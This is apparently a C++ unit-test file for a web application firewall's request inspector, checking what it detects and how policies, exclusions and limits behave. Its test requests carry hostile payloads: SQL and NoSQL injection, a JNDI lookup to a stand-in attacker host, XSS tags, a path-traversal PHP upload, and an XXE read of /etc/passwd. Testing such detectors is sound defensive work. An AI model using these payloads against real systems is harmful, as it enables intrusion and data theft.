#include <gtest/gtest.h>

#include <string>
#include <thread>

#include "waf_test_util.h"

namespace rampart::waf {
namespace {

using testing::shared_inspector;

// "class part name [fragment] reason" for each finding.
std::string describe(const Result& r) {
  std::string out;
  for (const Finding& f : r.findings) {
    out += std::string(attack_class_name(f.attack)) + " " + std::string(part_name(f.part)) + " " +
           f.name + (f.in_name ? " (name)" : "") + " [" + f.fragment + "] " + f.reason + "\n";
  }
  return out;
}

Request browser_get(std::string_view target) {
  Request r;
  r.method = "GET";
  r.set_target(target);
  r.headers = {
      {"Host", "shop.example.com"},
      {"User-Agent",
       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/120.0.0.0 Safari/537.36"},
      {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
      {"Accept-Language", "en-GB,en;q=0.9"},
      {"Referer", "https://shop.example.com/search?q=shoes"},
      {"Cookie", "session=eyJ1c2VyIjoiYW5uIn0.ZXhhbXBsZQ; theme=dark; _ga=GA1.2.1234.5678"},
  };
  return r;
}

TEST(Inspector, CleanBrowserRequestPasses) {
  Request r = browser_get("/products/shoes?color=red&size=42&q=running+shoes+for+men&page=2");
  Result result = shared_inspector().inspect(r, Policy());
  EXPECT_EQ(describe(result), "");
  EXPECT_GT(result.inspected_bytes, 100u);
}

TEST(Inspector, QueryFindingNamesTheArgument) {
  Request r = browser_get("/search?q=1%27%20or%20%271%27%3D%271&page=1");
  Result result = shared_inspector().inspect(r, Policy());
  EXPECT_EQ(describe(result), "sqli query q [or '1'='1] tautology\n");
  EXPECT_TRUE(result.attack());
  EXPECT_EQ(result.total_score, 10);  // 9, plus 1 for a second SQL rule agreeing
}

TEST(Inspector, ArgumentNamesAreInspected) {
  Request r = browser_get("/search?user[$ne]=x");
  EXPECT_EQ(describe(shared_inspector().inspect(r, Policy())),
            "nosql query user[$ne] (name) [$ne] query operator in name\n");
}

TEST(Inspector, HeadersAndCookies) {
  Request r = browser_get("/");
  r.headers.emplace_back("User-Agent", "${jndi:ldap://evil.example/a}");
  r.headers.emplace_back("Cookie", "prefs=<script>alert(1)</script>");
  EXPECT_EQ(describe(shared_inspector().inspect(r, Policy())),
            "jndi header user-agent [${jndi:ldap://evil.example/a}] jndi lookup\n"
            "xss cookie prefs [<script>] script-capable tag\n"
            "ssrf header user-agent [ldap://evil.example/a}] dangerous URL scheme\n");
}

TEST(Inspector, JsonBodyStringsAndKeys) {
  Request r;
  r.method = "POST";
  r.set_target("/api/users");
  r.headers = {{"Content-Type", "application/json"}};
  r.body = R"({"user":{"name":"x' union select password from users--"},"$where":"1"})";
  EXPECT_EQ(describe(shared_inspector().inspect(r, Policy())),
            "sqli body-json user.name [union select password from users--] union select\n"
            "nosql body-json $where (name) [$where] query operator in name\n");
}

TEST(Inspector, MultipartFileNameAndField) {
  Request r;
  r.method = "POST";
  r.set_target("/upload");
  r.headers = {{"Content-Type", "multipart/form-data; boundary=b1"}};
  r.body =
      "--b1\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos\r\n"
      "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n"
      "Content-Type: image/png\r\n\r\nPNG...\r\n--b1--\r\n";
  EXPECT_EQ(describe(shared_inspector().inspect(r, Policy())),
            "path-traversal body-multipart file.filename [../../shell.php] path traversal\n"
            "php-injection body-multipart file.filename [../../shell.php] php file upload\n");
}

TEST(Inspector, XmlExternalEntity) {
  Request r;
  r.method = "POST";
  r.set_target("/soap");
  r.headers = {{"Content-Type", "text/xml; charset=utf-8"}};
  r.body =
      "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>";
  Result result = shared_inspector().inspect(r, Policy());
  ASSERT_FALSE(result.findings.empty());
  EXPECT_EQ(result.findings[0].attack, AttackClass::kXxe);
  EXPECT_EQ(result.findings[0].part, Part::kBodyXml);
  EXPECT_EQ(result.findings[0].reason, "external entity");
}

TEST(Inspector, ExclusionsSkipOneArgumentAndDetector) {
  Request r =
      browser_get("/post?comment=%3Cb%3Ehi%3C%2Fb%3E%3Cscript%3Ex()%3C%2Fscript%3E&q=%3Cscript%3E");
  Policy policy;
  policy.exclusions.push_back(Exclusion{Part::kQuery, "comment", AttackClass::kXss});
  EXPECT_EQ(describe(shared_inspector().inspect(r, policy)),
            "xss query q [<script>] script-capable tag\n");
  policy.exclusions.push_back(Exclusion{std::nullopt, "q*", std::nullopt});
  EXPECT_EQ(describe(shared_inspector().inspect(r, policy)), "");
}

TEST(Inspector, SensitivityOffAndThreshold) {
  Request r = browser_get("/x?a=1%20union%20select%202&b=%3Cscript%3E");
  Policy policy;
  policy.set_level(AttackClass::kSqli, kSensitivityOff);
  EXPECT_EQ(describe(shared_inspector().inspect(r, policy)),
            "xss query b [<script>] script-capable tag\n");
  policy.threshold = 10;
  EXPECT_EQ(describe(shared_inspector().inspect(r, policy)), "");
}

TEST(Inspector, BodyBeyondTheLimitIsCountedNotInspected) {
  Request r;
  r.method = "POST";
  r.set_target("/form");
  r.headers = {{"Content-Type", "application/x-www-form-urlencoded"}};
  std::string body = "a=" + std::string(2000, 'x') + "&b=1%20union%20select%202";
  r.body = body;
  Policy policy;
  policy.body_limit = 1000;
  Result result = shared_inspector().inspect(r, policy);
  EXPECT_EQ(describe(result), "");
  EXPECT_EQ(result.uninspected_body_bytes, body.size() - 1000);
  policy.body_limit = 1 << 20;
  result = shared_inspector().inspect(r, policy);
  EXPECT_EQ(describe(result), "sqli body-form b [union select 2] union select\n");
  EXPECT_EQ(result.uninspected_body_bytes, 0u);
}

TEST(Inspector, ArgumentCountAndLengthLimits) {
  std::string query;
  for (int i = 0; i < 30; ++i) query += "k" + std::to_string(i) + "=v&";
  Request r = browser_get("/x?" + query);
  std::string target = "/x?" + query;
  r.set_target(target);
  Policy policy;
  policy.max_arguments = 10;
  Result result = shared_inspector().inspect(r, policy);
  EXPECT_GT(result.dropped_values, 20u);

  std::string long_value = "/x?big=" + std::string(100, 'a');
  r.set_target(long_value);
  r.headers.clear();
  policy.max_arguments = 1024;
  policy.max_argument_length = 50;
  EXPECT_EQ(describe(shared_inspector().inspect(r, policy)),
            "protocol query big [aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa] argument longer than "
            "the limit\n");
}

TEST(Inspector, SharedAcrossThreads) {
  const Inspector& inspector = shared_inspector();
  Request attack = browser_get("/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E");
  std::string expected = describe(inspector.inspect(attack, Policy()));
  ASSERT_NE(expected, "");
  std::vector<std::thread> threads;
  std::atomic<int> mismatches{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < 200; ++i) {
        if (describe(inspector.inspect(attack, Policy())) != expected) ++mismatches;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(mismatches.load(), 0);
}

TEST(Policy, ValidateNamesTheProblem) {
  Policy p;
  EXPECT_TRUE(p.validate().ok());
  p.set_level(AttackClass::kXss, 4);
  EXPECT_EQ(p.validate().message(), "waf: sensitivity of xss is 4, expected 0 (off) to 3");
  p = Policy();
  p.threshold = 0;
  EXPECT_EQ(p.validate().message(), "waf: threshold is 0, expected 1 to 100");
  p = Policy();
  p.body_limit = 0;
  EXPECT_EQ(p.validate().message(), "waf: body limit must be at least 1 byte");
}

}  // namespace
}  // namespace rampart::waf
